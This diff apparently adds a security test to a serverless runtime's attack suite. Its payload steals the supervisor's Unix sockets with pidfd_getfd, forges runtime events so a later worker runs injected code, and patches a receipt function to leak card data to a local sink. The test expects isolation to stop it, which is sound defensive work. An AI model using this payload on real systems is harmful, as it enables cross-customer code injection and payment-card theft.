@@ -1,0 +1,72 @@
+"""Takes a copy of the supervisor's sockets (pidfd_getfd) and hands the worker that waits an event of its own."""
+
+from __future__ import annotations
+
+from tests.attacks.evidence import Cards
+from tests.attacks.payloads import FAMILY
+from tests.attacks.technique import Technique
+
+PLANT = (
+    FAMILY
+    + r"""
+import ctypes, json
+patch = '''
+import app
+real = app.receipt
+app.receipt = lambda card: (leak(card), real(card))[1]
+frame = sys._getframe()
+while frame and "lambda_runtime_client" not in frame.f_locals:
+    frame = frame.f_back
+client = frame.f_locals["lambda_runtime_client"]
+if hasattr(client, "_answer"):
+    answer = client._answer
+    client._answer = lambda *_: setattr(client, "_answer", answer)
+'''
+head = "import socket, sys\ndef leak(data): socket.socket(2, 2).sendto(str(data).encode(), ('127.0.0.1', %d))\n" % event["sink"]
+frame = sys._getframe()
+while "lambda_runtime_client" not in frame.f_locals:
+    frame = frame.f_back
+if not hasattr(frame.f_locals["lambda_runtime_client"], "_answer"):
+    # The only process there is.
+    exec(head + patch)
+else:
+    from dayfly.core.frames import pack_event
+    body = json.dumps({"code": head + patch}).encode()
+    headers = {
+        "lambda-runtime-aws-request-id": "x",
+        "lambda-runtime-deadline-ms": "9999999999999",
+        "lambda-runtime-invoked-function-arn": "x",
+        "content-type": "application/json",
+    }
+    supervisor = int(open("/proc/%d/stat" % os.getppid()).read().rpartition(")")[2].split()[1])
+    handle = os.pidfd_open(supervisor)
+    is_first = True
+    for number in range(64):
+        copy = ctypes.CDLL(None).syscall(438, handle, number, 0)
+        if copy < 0:
+            continue
+        try:
+            one = socket.socket(fileno=copy)
+        except OSError:
+            continue
+        if one.family != socket.AF_UNIX:
+            continue
+        # The first is the zygote's.
+        if not is_first:
+            try: one.sendall(pack_event(bytes(16), headers, body))
+            except OSError: pass
+        is_first = False
+    time.sleep(0.2)
+"""
+)
+
+TECHNIQUE = Technique(
+    level="L3",
+    attack=("T1055", "T1574"),
+    source="1.5",
+    must_fail_to="copy a later customer's card",
+    plant=PLANT,
+    evidence=Cards(),
+    spoils=True,
+    process="may reach",
+)
